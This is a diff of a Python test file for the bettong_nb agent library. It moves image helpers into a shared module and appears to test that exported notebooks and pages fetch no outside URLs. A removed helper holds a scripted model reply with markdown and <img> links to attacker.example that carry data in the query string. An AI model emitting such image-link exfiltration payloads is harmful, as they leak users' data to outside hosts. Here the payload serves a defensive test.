@@ -9,8 +9,6 @@ from __future__ import annotations
 import base64
 import binascii
 import json
-import struct
-import zlib
 from html.parser import HTMLParser
 
 import nbformat
@@ -24,21 +22,7 @@ from bettong_nb.records.saving import VERSION, ResumeError
 from support.notebooks import data, run_notebook
 from support.servers import ChatScript, LoopbackServer, chat_message, tool_call
 from support.wire import KEY, weather
-
-
-def png(width: int = 2, height: int = 2, rgb: tuple = (200, 30, 30)) -> bytes:
-    """A real PNG: signature, IHDR, one IDAT of unfiltered rows, IEND."""
-
-    def chunk(kind: bytes, body: bytes) -> bytes:
-        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
-
-    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
-            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
-
-
-def image_block(**kw) -> dict:
-    return {"type": "image", "media_type": "image/png", "data": base64.b64encode(png(**kw)).decode()}
+from support.images import RED, image_block, image_session, png
 
 
 # --- save → load → next turn: the cached prefix holds -----------------------------------------
@@ -239,11 +223,11 @@ def _real_file(tmp_path) -> tuple[dict, dict]:
     """A saved session with a tool call, a prompt image, a tool image and two turns, as JSON, and
     the capability that resumes it."""
     capability = {"id": "charts", "tools": [bettong_nb.tool(
-        lambda city: ToolOutput(f"chart of {city}", images=[bettong_nb.Image(png(rgb=(0, 0, 255)))]),
+        lambda city: ToolOutput(f"chart of {city}", images=[bettong_nb.Image(png(2, 2, rgb=(0, 0, 255)))]),
         name="chart", description="A chart.")]}
     model = Scripted([[("chart", {"city": "Oslo"})], "Blue.", "Done."])
     chat = bettong_nb.agent(provider=model, capabilities=[capability]).session()
-    chat.run(["Chart it", bettong_nb.Image(png())])
+    chat.run(["Chart it", bettong_nb.Image(png(2, 2, rgb=RED))])
     chat.run("And now?")
     return json.loads(chat.save(tmp_path / "real.json").read_text()), capability
 
@@ -428,24 +412,6 @@ def test_no_secret_reaches_any_saved_or_exported_file(tmp_path, monkeypatch):
 
 # --- exports ------------------------------------------------------------------------------------
 
-def image_session() -> bettong_nb.Session:
-    """A session whose transcript carries an image in a prompt and one in a tool result (the
-    transcript shape of images: a block {"type": "image", "media_type", "data": base64})."""
-
-    def plot() -> bettong_nb.ToolOutput:
-        """Draw the plot."""
-        return bettong_nb.ToolOutput("a red square", images=(bettong_nb.Image.from_block(image_block()),))
-
-    agent = bettong_nb.agent(provider=Scripted([
-        {"text": "Let me draw it.", "tool_calls": [("plot", {})]},
-        "It is a red square. ![leak](http://attacker.example/x?d=1) <img src=http://attacker.example/y>",
-        [("plot", {})], "Still red.",
-    ]), capabilities=[{"id": "plots", "tools": [bettong_nb.tool(plot)]}], prices={"input": 1, "output": 2})
-    chat = agent.session()
-    chat.run(["What is this?", bettong_nb.Image.from_block(image_block(rgb=(0, 0, 255)))])
-    chat.run("And <b>now</b>?")
-    return chat
-
 
 class Loads(HTMLParser):
     """Every URL the page would fetch by itself (src, srcset, poster, data, link href, CSS url())."""
@@ -518,7 +484,7 @@ def test_notebook_export_validates_and_runs_with_its_tool_calls_kept(tmp_path):
     assert first.source.startswith("## Turn 1\n\n**You**\n\nWhat is this?")
     assert "It is a red square." in first.source and "](attachment:image-1.png)" in first.source
     (attached,) = first.attachments.values()
-    assert base64.b64decode(attached["image/png"]) == png(rgb=(0, 0, 255))
+    assert base64.b64decode(attached["image/png"]) == png(2, 2, rgb=(0, 0, 255))
     tools = notebook.cells[2]
     assert tools.source == "" and tools.metadata["jupyter"]["source_hidden"] is True
     (block,) = data(tools, "text/html")
